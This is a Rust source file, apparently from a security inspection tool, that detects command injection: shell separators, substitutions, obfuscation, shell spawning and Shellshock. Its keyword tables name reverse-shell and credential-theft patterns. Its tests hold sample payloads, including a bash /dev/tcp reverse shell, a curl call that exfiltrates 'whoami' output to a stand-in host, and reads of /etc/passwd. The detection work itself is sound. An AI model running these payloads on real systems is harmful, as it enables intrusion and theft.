//! Command injection: a text ends the command into which it is put, and a command follows; or it is a substitution that a shell makes.

mod words;

use sockwarden_inspect::Marks;

use super::{Desk, Detector, Side, Text, declare};
use crate::{
    findings::Findings,
    starts::Start,
    table::tables,
    words::{find, holds_any, is_at, skip_blanks},
};
use words::Command;

declare! {
    SEPARATED = "command-separated", Command, 1,
        "A command follows a separator of the shell, behind a value or at the begin.",
        ["CWE-78", "https://owasp.org/www-community/attacks/Command_Injection"];
    SUBSTITUTED = "command-substitution", Command, 1,
        "A command stands in a substitution of the shell.",
        ["CWE-78"];
    HIDDEN = "command-hidden", Command, 1,
        "A command is written so that a search for it fails, by the means of the shell.",
        ["CWE-78"];
    SHELL = "command-shell", Command, 1,
        "A shell is started, is connected to a network, or runs what was fetched.",
        ["CWE-78"];
    SHELLSHOCK = "command-shellshock", Command, 1,
        "A function of a shell is defined in an environment variable, with commands behind it.",
        ["CVE-2014-6271"];
}

pub(super) static DETECTOR: Detector = Detector {
    rules: RULES,
    side: Side::Client,
    starts: &[
        Start {
            marks: &[Marks::SEMICOLON
                .and(Marks::PIPE)
                .and(Marks::AMPERSAND)
                .and(Marks::BACKTICK)
                .and(Marks::DOLLAR)
                .and(Marks::LINE)],
            literals: &[],
        },
        Start { marks: &[Marks::BACKSLASH], literals: &["\\n", "\\r"] },
        Start { marks: &[Marks::ANGLE, Marks::PAREN], literals: &["<(", ">("] },
        Start {
            marks: &[Marks::SLASH.and(Marks::DASH).and(Marks::DOT).and(Marks::BACKSLASH).and(Marks::PERCENT)],
            literals: &[
                "if not ",
                "if exist",
                "if defined",
                "if errorlevel",
                "if \"",
                "if %",
                "if (",
                "if   ",
                "for %",
                "for   ",
                "type c:",
                "if /i",
                "if/i",
                "for /",
                "repair",
                "/bin/",
                "/dev/tcp",
                "/dev/udp",
                "cmd.exe",
                "cmd /c",
                "powershell",
                "bash -",
                "sh -i",
                "nc -",
                "ncat ",
                "/???/",
                "system32",
                "wget ",
                "curl ",
                "-encodedcommand",
                "/etc/passwd",
            ],
        },
    ],
    run,
};

tables! {
    /// What only somebody writes who wants a shell, and how much it says.
    SHELLS = [
    ("/dev/tcp/", 6),
    ("/dev/udp/", 6),
    ("bash -i", 5),
    ("sh -i", 4),
    ("nc -e", 5),
    ("nc -l", 3),
    ("ncat -e", 5),
    ("nc.exe", 4),
    ("cmd.exe /c", 5),
    ("cmd /c", 5),
    ("cmd.exe", 3),
    ("powershell -e", 5),
    ("powershell.exe", 4),
    ("-encodedcommand", 5),
    ("mkfifo /tmp", 5),
    ("| sh", 3),
    ("| bash", 3),
    ("|sh", 3),
    ("|bash", 3),
    ("cat /etc/passwd", 5),
    ("cat /etc/shadow", 5),
    ("invoke-expression", 4),
    ("downloadstring", 4),
    ("net user ", 4),
    ("net localgroup", 4),
    ("rm -rf /", 4),
    ("/bin/bash", 3),
    ("/bin/sh", 3),
    ("/bin/cat", 4),
    ("/bin/ls", 4),
    ("/bin/id", 4),
    ("/usr/bin/id", 5),
    ("system32\\cmd", 6),
    ("winnt\\repair", 5),
    ("type c:", 5),
    ("windows\\repair", 5),
];

    /// What hides a command from whoever looks for its name.
    HIDING = [
        ("${ifs}", 6),
        ("$ifs", 5),
        ("${path:", 5),
        ("$'\\x", 4),
        ("{cat,", 6),
        ("{ls,", 6),
        ("%programfiles:~", 6),
        ("${home:", 5),
        ("${pwd:", 5),
        ("rev<<<", 6),
        ("<<<$(", 5),
        ("%comspec%", 5),
    ];
}

fn run(text: &Text<'_>, desk: &mut Desk) {
    let bytes = text.bytes;
    let findings = &mut desk.findings;
    let around = Around::of(text);
    if let Some(at) = find(bytes, 0, b"() {").or_else(|| find(bytes, 0, b"(){")) {
        let rest = bytes.get(at..).unwrap_or_default();
        let rest = rest.get(..rest.len().min(24)).unwrap_or_default();
        let body = rest.split(|byte| *byte == b'{').nth(1).unwrap_or_default().trim_ascii_start();
        let empty = [b":;".as_slice(), b"_;", b">_", b":", b"x;", b"ignored;", b"foo;"]
            .iter()
            .any(|begin| body.starts_with(begin));
        if empty {
            findings.add(&SHELLSHOCK, 7, at..at + rest.len());
        }
    }
    hidden(text, findings);
    shell(text, findings);
    let mut at = 0;
    let begin = usize::from(matches!(bytes.first(), Some(b'"' | b'\'')));
    match bytes.get(begin..) {
        Some([b'\n' | b'\r', ..]) => separated(text, &around, begin, begin + 1, findings),
        // Written out, for whoever puts it into a string of a program.
        Some([b'\\', b'n' | b'r', ..]) => separated(text, &around, begin, begin + 2, findings),
        Some(_) | None => {}
    }
    while let Some(byte) = bytes.get(at).copied() {
        let start = at;
        at += 1;
        match byte {
            b';' | b'|' | b'&' | b'\n' => {
                while matches!(bytes.get(at), Some(b';' | b'|' | b'&')) {
                    at += 1;
                }
                separated(text, &around, start, at, findings);
            }
            b'`' => substituted(text, &around, start, at, findings),
            b'$' | b'<' | b'>' if bytes.get(at) == Some(&b'(') => {
                at += 1;
                substituted(text, &around, start, at, findings);
            }
            _ => {}
        }
    }
}

/// What the text is like around a separator.
#[derive(Debug)]
struct Around {
    /// It begins as a command does: somebody talks about commands.
    is_help: bool,
    /// Where the first blank is.
    first_blank: usize,
    /// How many lines it has, two at most.
    lines: usize,
    /// Where it begins, behind blanks, and with which byte.
    begin: usize,
    first: Option<u8>,
}

impl Around {
    fn of(text: &Text<'_>) -> Self {
        let bytes = text.bytes;
        let begin = skip_blanks(bytes, 0);
        let prompt = begin
            + usize::from(bytes.get(begin) == Some(&b'$'))
            + usize::from(bytes.get(begin..begin + 2) == Some(b"$ "));
        let names = crate::words::name_at(bytes, prompt);
        let command = words::read(bytes, prompt)
            .is_some_and(|(command, end)| command == Command::Plain || bytes.get(end) == Some(&b' '));
        let first_blank =
            bytes.iter().skip(begin).position(u8::is_ascii_whitespace).map_or(bytes.len(), |at| at + begin);
        let worded = !names.is_empty()
            && names.first().is_some_and(u8::is_ascii_alphabetic)
            && first_blank < bytes.len();
        Self {
            is_help: command || worded || bytes.get(begin..begin + 2) == Some(b"./"),
            first_blank,
            lines: bytes.iter().filter(|byte| **byte == b'\n').take(2).count(),
            begin,
            first: bytes.get(begin).copied(),
        }
    }
}

/// A separator from `start` to `end`: what follows it?
fn separated(text: &Text<'_>, around: &Around, start: usize, end: usize, findings: &mut Findings) {
    let bytes = text.bytes;
    let separator = bytes.get(start).copied().unwrap_or_default();
    let is_line = matches!(separator, b'\n' | b'\r');
    if is_line && around.lines > 1 {
        return;
    }
    let mut at = skip_blanks(bytes, end);
    // A quote that ends an argument, a bracket that opens a subshell.
    while matches!(bytes.get(at), Some(b'"' | b'\'' | b'(' | b'{' | b'!')) && at < end + 4 {
        at = skip_blanks(bytes, at + 1);
    }
    let Some((command, after)) = words::read(bytes, at) else { return };
    let argument = Argument::of(bytes, after);
    let behind_nothing = around.begin >= start
        || matches!(around.first, Some(b'"' | b'\'' | b'\\' | b')' | b'`' | b'%' | b'@')) && start < 8;
    let behind_value = start <= around.first_blank + 1 && !around.is_help || around.first_blank >= start;
    // A line of its own is no separator where there are many, or where it is indented.
    if is_line && !behind_nothing && (at > end || !behind_value) {
        return;
    }
    let entity = separator == b';' && ends_entity(bytes, start);
    let weight = match (command, argument) {
        (_, Argument::None) => 0,
        (Command::Plain, _) if behind_nothing => 7,
        (Command::Wordly, Argument::Strong | Argument::End) if behind_nothing => 6,
        (Command::Wordly, Argument::Weak) if behind_nothing => 3,
        (Command::Plain, _) if behind_value && !text.sentence() => 6,
        (Command::Wordly, Argument::Strong) if behind_value => 6,
        (Command::Wordly, Argument::End) if behind_value && !is_line => 5,
        (Command::Wordly, Argument::Weak) if behind_value => 2,
        (Command::Plain, Argument::Strong) if !around.is_help && !text.sentence() => 5,
        (Command::Wordly, Argument::Strong) if !around.is_help && !text.sentence() => 4,
        (Command::Plain | Command::Wordly, Argument::Strong) => 2,
        (Command::Plain | Command::Wordly, Argument::End | Argument::Weak) => 1,
    };
    // `a=1&id=2` is a form, and `&lt;id` an entity.
    let form = separator == b'&' && end == start + 1 && matches!(bytes.get(after), Some(b'='));
    if weight > 0 && !form && !entity {
        let secret = holds_any(
            bytes.get(after..after + 64).or(bytes.get(after..)).unwrap_or_default(),
            &["/etc/passwd", "/etc/shadow", "win.ini", "boot.ini"],
        );
        findings.add(&SEPARATED, weight + u8::from(secret) * 2, start..after);
    }
}

/// Tells whether a semicolon ends an entity of HTML.
fn ends_entity(bytes: &[u8], at: usize) -> bool {
    let begin = at.saturating_sub(8);
    let near = bytes.get(begin..at).unwrap_or_default();
    near.iter().rposition(|byte| *byte == b'&').is_some_and(|and| {
        let name = near.get(and + 1..).unwrap_or_default();
        !name.is_empty() && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'#')
    })
}

/// What stands behind a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Argument {
    /// It is no command: its name goes on, or something stands there that no command has.
    None,
    /// The text ends, or the command does.
    End,
    /// Something that only arguments look like: a flag, a path, an address, a number, a redirection.
    Strong,
    /// A word.
    Weak,
}

impl Argument {
    fn of(bytes: &[u8], after: usize) -> Self {
        let next = bytes.get(after).copied();
        let at = skip_blanks(bytes, after);
        match next {
            None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\'' | b'"' | b'#' | b'\n' | b'\r' | b'}') => {
                return Self::End;
            }
            Some(b'<' | b'>') => return Self::Strong,
            Some(b'$' | b'{') => return Self::Strong,
            Some(b' ' | b'\t' | b'\\') => {}
            Some(b'+') => return Self::Weak,
            Some(_) => return Self::None,
        }
        let rest = bytes.get(at..).unwrap_or_default();
        match rest.first() {
            None | Some(b';' | b'|' | b'&' | b'`' | b'#' | b'"' | b'\'') => return Self::End,
            Some(b'-') => {
                return if rest.get(1).is_some_and(u8::is_ascii_alphanumeric) {
                    Self::Strong
                } else {
                    Self::Weak
                };
            }
            Some(b'/' | b'.' | b'~' | b'$' | b'>' | b'<' | b'*' | b'\\') => return Self::Strong,
            Some(b'0'..=b'9') => return Self::Strong,
            Some(b'=' | b'(' | b'{') => return Self::None,
            Some(_) => {}
        }
        let length = rest
            .iter()
            .position(|byte| *byte <= b' ' || matches!(byte, b';' | b'|' | b'&' | b'`'))
            .unwrap_or(rest.len());
        let word = rest.get(..length).unwrap_or_default();
        let shaped =
            word.iter().any(|byte| matches!(byte, b'/' | b'\\' | b':' | b'@' | b'*' | b'=' | b'$' | b'_'))
                || word.get(1..word.len().saturating_sub(1)).is_some_and(|inner| inner.contains(&b'.'));
        if shaped { Self::Strong } else { Self::Weak }
    }
}

/// A substitution whose command begins at `at`.
fn substituted(text: &Text<'_>, around: &Around, start: usize, at: usize, findings: &mut Findings) {
    let bytes = text.bytes;
    let begin = skip_blanks(bytes, at);
    let Some((command, after)) = words::read(bytes, begin) else { return };
    let argument = Argument::of(bytes, after);
    let ticks = bytes.get(start) == Some(&b'`');
    let alone = around.begin == start;
    let behind_value = around.first_blank >= start && start > 0;
    let weight = match (command, argument) {
        (_, Argument::None) => 0,
        // Markdown quotes code like that.
        (Command::Plain, _) if ticks && alone && !text.sentence() => 5,
        (Command::Wordly, Argument::Strong | Argument::End) if ticks && alone && !text.sentence() => 5,
        (Command::Plain | Command::Wordly, Argument::Strong | Argument::End)
            if ticks && behind_value && !text.sentence() =>
        {
            5
        }
        _ if ticks => 1,
        (Command::Plain, _) if alone || behind_value => 7,
        (Command::Wordly, Argument::Strong | Argument::End) if alone || behind_value => 6,
        (Command::Plain | Command::Wordly, _) => 3,
    };
    if weight > 0 {
        findings.add(&SUBSTITUTED, weight, start..after);
    }
}

fn hidden(text: &Text<'_>, findings: &mut Findings) {
    let bytes = text.bytes;
    HIDING.first(bytes, |number, at| {
        if let Some((word, weight)) = HIDING.words.get(number) {
            findings.add(&HIDDEN, *weight, at..at + word.len());
        }
    });
    let lone = !text.marks.any(Marks::SPACE);
    if lone
        && bytes.len() < 256
        && is_at(bytes, 0, b"/")
        && words::read(bytes, 0).is_some_and(|(command, _)| command == Command::Plain)
    {
        let named = bytes.iter().any(|byte| matches!(byte, b'?' | b'*'));
        findings.add(&HIDDEN, if named { 6 } else { 3 }, 0..bytes.len());
    }
}

/// A loop or a condition of the Windows shell.
fn batch(text: &Text<'_>, findings: &mut Findings) {
    let bytes = text.bytes;
    let begin = bytes.iter().position(|byte| !matches!(byte, b' ' | b'&' | b'|' | b';' | b'"')).unwrap_or(0);
    let word = crate::words::name_at(bytes, begin);
    let mut at = skip_blanks(bytes, begin + word.len());
    if word.eq_ignore_ascii_case(b"for") {
        let flag = bytes.get(at) == Some(&b'/') && bytes.get(at + 1).is_some_and(u8::is_ascii_alphabetic);
        let each = bytes.contains(&b'%') && holds_any(bytes, &[" in (", " in  (", " in   ("]);
        if (flag || bytes.get(at) == Some(&b'%')) && each {
            findings.add(&SHELL, if text.sentence() { 7 } else { 5 }, begin..at);
        }
    } else if word.eq_ignore_ascii_case(b"if") {
        if is_at(bytes, at, b"not ") {
            at = skip_blanks(bytes, at + 3);
        }
        let asks =
            ["exist ", "defined ", "errorlevel ", "/i "].iter().any(|word| is_at(bytes, at, word.as_bytes()));
        let compares = matches!(bytes.get(at), Some(b'%' | b'"' | b'[' | b'('))
            && holds_any(bytes, &["==", " equ ", " neq "])
            && bytes.contains(&b'%');
        if (asks || compares) && !text.sentence() && !text.marks.any(Marks::LINE) {
            findings.add(&SHELL, 5, begin..at);
        }
    }
}

fn shell(text: &Text<'_>, findings: &mut Findings) {
    let bytes = text.bytes;
    batch(text, findings);
    SHELLS.first(bytes, |number, at| {
        if let Some((word, weight)) = SHELLS.words.get(number) {
            let begins =
                bytes.get(..at).is_some_and(|head| head.iter().all(|byte| !byte.is_ascii_alphanumeric()));
            let weight = weight
                + u8::from(begins && !text.sentence() && bytes.len() < 200 && *weight >= 4 && at > 0) * 2;
            findings.add(&SHELL, weight, at..at + word.len());
        }
    });
}

#[cfg(test)]
mod tests {
    use crate::{
        Category,
        testing::{finds, passes},
    };

    #[test]
    fn commands_behind_a_separator_are_found() {
        finds(
            Category::Command,
            &[
                "; cat /etc/passwd",
                "| whoami",
                "|| ping -c 10 127.0.0.1",
                "&& dir C:\\",
                "x;id",
                "127.0.0.1; ls -la",
                "127.0.0.1|id",
                "foo`id`",
                "$(sleep 5)",
                "a$(curl http://x.example/`whoami`)",
                "\n/bin/ls -al",
                "';id;'",
                "\"; ping -n 3 x; \"",
                "() { :;}; /bin/bash -c id",
                ";c''at${IFS}/etc/passwd",
                "|w\\hoami",
                "cat${IFS}x",
                "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
                "%0aid",
                "127.0.0.1%26%26uname%20-a",
                "; /???/c?t x",
                "& ipconfig /all",
            ],
        );
    }

    #[test]
    fn talk_about_commands_is_left_alone() {
        passes(&[
            "ls -la | grep foo",
            "cat file.txt | sort | uniq -c",
            "sudo apt-get update && sudo apt-get install vim",
            "run `ls -la` to see them",
            "`cargo build` works",
            "I tried it; cat is nice",
            "black & white",
            "yes; find me later",
            "a || b && c",
            "first line\nsecond line\nfind it there",
            "use $(pwd) in the script there",
            "foo(); sleep(5);",
            "x = a | sort",
            "name=x&id=5&type=y",
            "Tom &amp; Jerry; who else?",
            "kill it; who cares",
            "echo \"hello\" > file; echo done",
            "for i in *; do echo $i; done",
            "brew install wget | tee log",
            "salt & sort of pepper",
        ]);
    }
}
